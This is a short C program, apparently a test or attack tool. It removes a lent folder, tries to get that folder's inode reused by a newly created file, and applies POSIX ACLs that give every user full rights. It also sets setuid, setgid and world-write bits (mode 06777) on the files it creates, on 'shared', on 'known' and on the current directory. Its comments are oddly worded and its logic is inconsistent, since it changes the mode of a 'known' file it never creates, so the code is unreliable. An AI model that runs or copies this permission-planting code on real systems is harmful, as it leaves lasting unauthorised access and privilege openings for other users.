// SPDX-License-Identifier: GPL-2.0
/*
 * Tries to leave rights behind in a folder that was lent: rights FOLDER.. INNER.
 *
 * Each folder gets a list that lets everybody do everything with what is made there. The last one is
 * removed, and a program gets its inode if the file system gives that away again.
 */
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/xattr.h>
#include <unistd.h>
#include <fcntl.h>

static const char everything[28] = {
	2, 0, 0, 0,
	1, 0, 7, 0, -1, -1, -1, -1,
	4, 0, 7, 0, -1, -1, -1, -1,
	32, 0, 7, 0, -1, -1, -1, -1,
};

static void give_rights(const char *path)
{
	setxattr(path, "system.posix_acl_default", everything, sizeof(everything), 0);
	setxattr(path, "system.posix_acl_access", everything, sizeof(everything), 0);
}

int main(int argc, char **argv)
{
	const char *inner = argv[argc - 1];
	struct stat known, made;
	char path[64];
	int i, again = 0;

	if (argc < 3 || stat(inner, &known) || rmdir(inner))
		return 1;
	/* Many, so that the inode comes back where it can. */
	for (i = 0; i < 1000 && !again; i++) {
		snprintf(path, sizeof(path), "shared/made%d", i);
		close(open(path, O_CREAT | O_WRONLY, 0755));
		again = !stat(path, &made) && made.st_ino == known.st_ino;
		chmod(path, 06777);
	}
	printf("the inode of a folder is %s\n", again ? "that of a program" : "not given away again");
	mkdir("new", 0755);
	give_rights("new");
	for (i = 1; i < argc - 1; i++)
		give_rights(argv[i]);
	chmod("known", 06777);
	chmod("shared", 06777);
	chmod(".", 06777);
	return 0;
}
